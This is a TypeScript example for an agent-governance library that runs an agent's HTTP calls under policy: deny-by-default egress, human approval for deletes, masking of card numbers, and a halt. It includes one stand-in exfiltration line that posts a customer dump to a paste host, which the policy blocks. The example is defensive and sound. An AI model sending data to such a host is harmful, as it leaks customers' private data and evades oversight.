// Outbound HTTP as governed tool calls, offline: an agent's HTTP client may reach one API (a loopback
// server standing in for it) and nothing else; deleting needs a human; passwords never reach the
// ledger; a card number is masked before the request leaves; a halt cuts off a request in flight.
// The server counts what actually arrived.
// Run: npx tsx examples/governed-fetch.ts
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { Warden, WardenError } from "agent-warden";
import { createGovernedFetch } from "agent-warden/fetch";

const arrived: string[] = [];
const queries: string[] = [];
const api = createServer((request, response) => {
  const url = new URL(request.url ?? "/", "http://api");
  arrived.push(`${request.method} ${url.pathname}`);
  if (url.search) queries.push(decodeURIComponent(url.search));
  if (url.pathname === "/v1/export") return; // a slow export: it answers only when cut off
  response.setHeader("content-type", "application/json");
  response.end(JSON.stringify({ ok: true }));
});
await new Promise<void>((resolve) => api.listen(0, "127.0.0.1", resolve));
const origin = `http://127.0.0.1:${(api.address() as AddressInfo).port}`;

const warden = new Warden({
  agentId: "support-agent",
  store: ":memory:",
  policies: {
    version: 1,
    default: "block", // deny by default: egress only where a policy allows it
    policies: [
      { id: "crm-api", when: { tool: "http.*", "args.host": "127.0.0.1", "args.path": { matches: "^/v1/" } }, action: "allow" },
      { id: "approve-deletes", when: { tool: "http.delete", "args.host": "127.0.0.1" }, action: "require_approval" },
    ],
  },
  onApprovalRequest: (request, decide) => {
    console.log(`  … ${request.toolName} ${(request.payload as { path: string }).path} awaits approval; bob rejects it`);
    decide.reject({ reviewer: "bob", reason: "customers are archived, not deleted" });
  },
});
const http = createGovernedFetch(warden, {
  defaults: { baseURL: origin, retry: false },
  // Card numbers never leave the process, wherever the agent puts them (body or query).
  redactBeforeSend: { rules: [{ path: "$..card_number", action: "mask" }] },
});

async function attempt(label: string, request: () => Promise<unknown>): Promise<void> {
  try {
    console.log(`${label} → ${JSON.stringify(await request())}`);
  } catch (error) {
    console.log(`${label} → ${WardenError.isInstance(error) ? `${error.name}: ${error.message}` : String(error)}`);
  }
}

await attempt("GET  /v1/customers/7", () => http("/v1/customers/7", { query: { card_number: "4242 4242 4242 4242" } }));
await attempt("POST /v1/login", () => http("/v1/login", { method: "POST", body: { user: "support", password: "s3cret-passw0rd" } }));
await attempt("POST https://paste.example/upload", () => http("https://paste.example/upload", { method: "POST", body: { dump: "all customers" } }));
await attempt("DELETE /v1/customers/7", () => http("/v1/customers/7", { method: "DELETE" }));
const exporting = attempt("GET  /v1/export (halted mid-flight)", () => http("/v1/export"));
while (!arrived.includes("GET /v1/export")) await new Promise((resolve) => setTimeout(resolve, 5));
warden.halt({ reason: "data leak suspected", agentId: "support-agent" });
await exporting;

console.log(`\nthe API received: ${arrived.join(", ")}`);
console.log(`with the query: ${queries.join(", ")}`);
console.log("recorded:");
for (const run of warden.listRuns().reverse()) {
  for (const call of (await warden.getRun(run.runId)).toolCalls) {
    const input = call.input as { host: string; path: string; body?: unknown };
    console.log(`  ${call.toolName.padEnd(11)} ${input.host}${input.path} ${call.status.padEnd(9)} ${input.body ? `body=${JSON.stringify(input.body)}` : ""}`);
  }
}

api.closeAllConnections();
api.close();
warden.close();
